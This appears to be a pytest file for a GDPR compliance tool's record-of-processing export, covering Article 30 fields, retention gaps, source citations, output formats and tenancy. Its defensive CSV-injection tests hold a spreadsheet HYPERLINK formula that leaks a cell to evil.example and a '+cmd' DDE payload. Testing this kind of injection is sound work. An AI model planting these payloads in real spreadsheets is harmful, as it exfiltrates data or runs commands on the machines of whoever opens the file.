"""`warden ropa`: the record of processing activities on the bundled Acme demo run (the
fixtures/acme/demo.sh flow: analyse the notice, approve the root and the child it drafts)."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "service"))

from _acme_tree import Acme, acme_copy

from warden.cli import app
from warden.investigate.ropa import FIELDS
from warden.service import NotFound


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> tuple[Acme, str, dict]:
    acme = acme_copy(tmp_path_factory.mktemp("ropa") / "acme")
    run = acme.completed()
    service = acme.service()
    return acme, run, service.ropa(service.principal("dora@acme"), run)


def _activity(record: dict, system: str, purpose_start: str) -> dict:
    (found,) = [
        a
        for a in record["activities"]
        if a["system"] == system and (a["purpose"] or "").startswith(purpose_start)
    ]
    return found


def _listed(record: dict, activity: dict, field: str) -> list[dict]:
    """An activity's values of `field`: its own, its system's and the notice-wide ones it
    shares (each listed once, under the record's ``systems`` and ``notice``)."""
    kept = activity["fields"][field]
    system = record["systems"][activity["system"]].get(field, [])
    notice = record["notice"].get(field, [])
    assert kept["system_values"] in (0, len(system)) and kept["notice_values"] in (0, len(notice))
    return (
        kept["values"] + (system if kept["system_values"] else []) + (notice if kept["notice_values"] else [])
    )


def _values(record: dict, activity: dict, field: str) -> set[str]:
    return {v["value"] for v in _listed(record, activity, field)}


def test_each_system_and_purpose_gets_the_art30_fields(demo: tuple[Acme, str, dict]) -> None:
    _, _, record = demo
    assert record["tenant"] == "acme" and record["documents"] == ["notice.md"]
    assert {a["system"] for a in record["activities"]} == {
        "crm",
        "newsletter-export",
        "web-logs",
        "webshop-src",
    }
    assert record["unscanned"] == []
    assert all(set(a["fields"]) == set(FIELDS) for a in record["activities"])

    orders = _activity(record, "crm", "to process and deliver your orders")
    assert {
        "user.name",
        "user.contact.email",
        "user.contact.phone_number",
        "user.contact.address",
        "user.demographic.date_of_birth",
        "user.health_and_medical",
    } <= _values(record, orders, "data_categories")
    assert "customers" in _values(record, orders, "data_subjects")
    newsletter = _activity(record, "newsletter-export", "to send you marketing emails")
    assert {"user.contact.email", "user.name", "user.device.ip_address"} <= _values(
        record, newsletter, "data_categories"
    )

    shop = _activity(record, "webshop-src", "to take payment")
    assert {"OpenAI", "Meta (Facebook)", "Stripe", "Google Analytics"} <= _values(record, shop, "recipients")
    assert "OpenAI (US)" in _values(record, shop, "transfers")
    (safeguard,) = _listed(record, shop, "transfer_safeguards")
    assert "Standard Contractual Clauses" in safeguard["source"]["quote"]
    assert any("encryption" in v for v in _values(record, shop, "security_measures"))


def test_retention_is_a_gap_with_the_findings_that_show_it(demo: tuple[Acme, str, dict]) -> None:
    acme, run, record = demo
    codes = {
        f["finding_id"]: (f["code"], f["system_id"])
        for f in acme.service().findings(acme.service().principal("dora@acme"), run)
    }
    for activity in record["activities"]:
        retention = activity["fields"]["retention"]
        assert retention["gap"] and retention["values"] == [] and "retention" in activity["gaps"]
        assert retention["notice_values"] == 0 and record["notice"]["retention"] == []
        shown = {codes[i] for i in retention["gap_findings"]}
        assert ("gdpr.missing.retention", None) in shown
        if activity["system"] in ("crm", "newsletter-export", "web-logs"):
            assert ("gap.retention_undisclosed", activity["system"]) in shown
        # everything else the notice or the scans supply
        assert activity["gaps"] == ["retention"], activity


def test_every_value_cites_a_passage_or_a_finding_that_exists(demo: tuple[Acme, str, dict]) -> None:
    acme, run, record = demo
    service = acme.service()
    dora = service.principal("dora@acme")
    findings = {f["finding_id"]: f for f in service.findings(dora, run)}
    notice = acme.notice.read_text()
    for activity in record["activities"]:
        for name in FIELDS:
            for value in _listed(record, activity, name):
                source = value["source"]
                if source["kind"] == "finding":
                    f = findings[source["finding_id"]]
                    assert f["system_id"] == activity["system"]
                    assert f["analyser"] in ("personal_data_scan", "third_party_scan")
                else:
                    assert source["kind"] == "passage" and source["document"] == "notice.md"
                    assert source["passage_id"].split("#")[0] and source["quote"] in notice


def test_csv_html_json_and_tenancy(demo: tuple[Acme, str, dict], tmp_path: Path) -> None:
    acme, run, record = demo
    env = {"WARDEN_HOME": str(acme.home), "WARDEN_POLICY": str(acme.policy), "WARDEN_USER": None}
    runner = CliRunner(env=env)
    as_json = runner.invoke(app, ["ropa", run, "--as", "ana@acme"], catch_exceptions=False)
    assert as_json.exit_code == 0, as_json.stderr
    assert (
        json.loads(as_json.stdout)["activities"] == json.loads(json.dumps(record, default=str))["activities"]
    )
    as_csv = runner.invoke(app, ["ropa", run, "--as", "ana@acme", "--format", "csv"], catch_exceptions=False)
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    gaps = [r for r in rows if r["gap"] == "gap"]
    assert gaps and {r["field"] for r in gaps} == {"retention"}
    assert any(r["field"] == "data_categories" and r["source"].startswith("finding pds-") for r in rows)
    # the notice-wide values once, each activity sharing them says so in one row
    notice_rows = [r for r in rows if r["system"] == "(notice)"]
    assert len(notice_rows) == sum(len(v) for v in record["notice"].values())
    assert any(r["field"] == "security_measures" and "encryption" in r["value"] for r in notice_rows)
    shared = [r for r in rows if r["field"] == "security_measures" and r["system"] != "(notice)"]
    assert len(shared) == len(record["activities"]) and all(r["value"] == "" for r in shared)
    assert all("listed once as system (notice)" in r["source"] for r in shared)
    crm = [r for r in rows if r["system"] == "crm" and r["purpose"] == "(every purpose)"]
    assert {r["field"] for r in crm} == {"data_categories"} and len(crm) == len(
        record["systems"]["crm"]["data_categories"]
    )
    out = tmp_path / "ropa.html"
    as_html = runner.invoke(
        app, ["ropa", run, "--as", "ana@acme", "--format", "html", "--out", str(out)], catch_exceptions=False
    )
    assert as_html.exit_code == 0, as_html.stderr
    page = out.read_text()
    assert "<script" not in page and 'class="gap"' in page and "user.demographic.date_of_birth" in page
    assert 'id="notice-security_measures"' in page
    assert page.count('href="#notice-security_measures"') == len(record["activities"])
    assert 'href="#system-1-data_categories"' in page and 'id="system-1-data_categories"' in page
    bad = runner.invoke(app, ["ropa", run, "--as", "ana@acme", "--format", "xml"], catch_exceptions=False)
    assert bad.exit_code == 2
    service = acme.service()
    with pytest.raises(NotFound):
        service.ropa(service.principal("gwen@globex"), run)


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_ropa_csv_prefixes_every_formula_cell_in_every_column() -> None:
    """CSV injection: a cell of any column that starts with = + - @, tab or CR gets a leading '
    (OWASP); what follows is kept verbatim, and ordinary cells are untouched."""
    from warden.investigate.ropa import ropa_csv

    source = {"kind": "passage", "document": "@notice.md", "passage_id": "p1", "quote": FORMULA}
    fields = {name: {"gap": False, "values": [], "gap_findings": []} for name in FIELDS}
    name = FIELDS[0]
    fields[name] = {
        "gap": True,
        "gap_findings": ["+cmd|' /C calc'!A0"],
        "values": [{"value": "-1+1", "source": source}],
    }
    record = {"activities": [{"system": "\tcrm", "purpose": "\rto sell", "fields": fields}]}
    rows = list(csv.reader(io.StringIO(ropa_csv(record))))
    cells = [c for row in rows[1:] for c in row]
    assert [c for c in cells if c[:1] in TRIGGERS] == []
    gap_row, value_row = rows[1], rows[2]
    assert gap_row == ["'\tcrm", "'\rto sell", name, "", "'+cmd|' /C calc'!A0", "", "gap"]
    assert value_row == ["'\tcrm", "'\rto sell", name, "'-1+1", "'@notice.md p1", "'" + FORMULA, ""]
    plain = {
        "activities": [
            {
                "system": "crm",
                "purpose": "to sell",
                "fields": {
                    n: {
                        "gap": False,
                        "values": [
                            {
                                "value": "user.name",
                                "source": {**source, "document": "notice.md", "quote": "We sell."},
                            }
                        ],
                    }
                    for n in FIELDS
                },
            }
        ]
    }
    assert {c for row in csv.reader(io.StringIO(ropa_csv(plain))) for c in row[1:] if c} >= {
        "to sell",
        "user.name",
        "notice.md p1",
        "We sell.",
    }
    assert not any(c.startswith("'") for row in csv.reader(io.StringIO(ropa_csv(plain))) for c in row)


def test_spreadsheet_safe_cell_is_the_one_rule() -> None:
    from warden.investigate.spreadsheet import safe_cell, safe_row

    assert [safe_cell(t + "x") for t in TRIGGERS] == ["'" + t + "x" for t in TRIGGERS]
    assert safe_row(["x=1", " =1", "'=1", "", None, -1, 2.5]) == ["x=1", " =1", "'=1", "", None, -1, 2.5]


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own() -> None:
    """Python 3.11's csv writer leaves a bare CR unquoted with "\\n" line ends; a spreadsheet then
    starts a row at it, with the formula after it in the first cell. The row is quoted instead."""
    from warden.investigate import spreadsheet

    out = io.StringIO()
    writer = spreadsheet.writer(out)
    writer.writerow(["a", "b"])
    writer.writerow(["ok", f"quote\r{FORMULA}"])
    writer.writerow(["x", None, 3])
    text = out.getvalue()
    assert text.startswith("a,b\n") and text.endswith("x,,3\n")
    assert '"ok","quote\r=HYPERLINK(' in text  # the CR inside a quoted field, not a row break
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["ok", f"quote\r{FORMULA}"], ["x", "", "3"]]
